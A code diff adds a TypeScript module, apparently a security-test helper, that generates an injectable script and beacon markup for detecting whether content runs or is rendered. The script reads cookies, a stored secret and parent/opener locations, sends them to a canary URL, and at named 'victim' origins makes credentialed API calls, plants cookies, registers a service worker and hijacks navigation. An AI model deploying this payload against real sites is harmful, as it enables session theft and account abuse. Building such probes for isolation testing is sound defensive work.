@@ -1,0 +1,39 @@
+/** What the probe tells the canary when it runs somewhere. */
+export type Ran = {
+  /** The origin it ran with: `null` in a sandbox. */
+  origin: string;
+  /** The address of the document or worker it ran in. */
+  at: string;
+  /** Whatever it got hold of, or the name of the error. */
+  cookie?: string;
+  stored?: string;
+  parent?: string;
+  opener?: string;
+};
+
+/**
+ * A script that tells where it runs and what it can read, and does harm where it runs at one of
+ * `victims`. It is a classic script, a module, a worker and a service worker alike, and has no `<`,
+ * `&` or `"`, so that it can stand in HTML, in XML and in attributes as it is.
+ */
+export const probe = (canary: string, victims: string[]): string =>
+  `(function(){var s=self,d=s.document,r={origin:s.origin,at:String(s.location)};
+function say(k,o){fetch('${canary}/'+k+'?'+encodeURIComponent(JSON.stringify(o)),{mode:'no-cors',keepalive:true})}
+function read(n,f){try{r[n]=String(f())}catch(e){r[n]='!'+e.name}}
+if(d){read('cookie',function(){return d.cookie});read('stored',function(){return localStorage.secret});
+read('parent',function(){return s.parent.location.href});read('opener',function(){return s.opener.location.href})}
+say('ran',r);
+[${victims.map((victim) => `'${victim}'`)}].forEach(function(v){if(r.at.indexOf(v)!==0)return;
+function did(what){return function(){say('did',{what:what,at:r.at})}}
+fetch('/api/v1/limits',{credentials:'include'}).then(did('called the API'));
+if(!d)return;
+try{d.cookie='planted=1;path=/'}catch(e){}
+try{navigator.serviceWorker.register(r.at).then(did('registered a service worker'))}catch(e){}
+try{s.open('${canary}/did?%7B%22what%22:%22opened a popup%22%7D')}catch(e){}
+try{s.top.location='${canary}/did?%7B%22what%22:%22navigated the top page%22%7D'}catch(e){}
+})})()`.replaceAll('\n', '');
+
+/** Markup that needs no script to be noticed, where it is shown as HTML. */
+export const marks = (canary: string): string =>
+  `<img src="${canary}/shown?img"><link rel="stylesheet" href="${canary}/shown?style">` +
+  `<meta http-equiv="refresh" content="0;url=${canary}/shown?refresh">`;
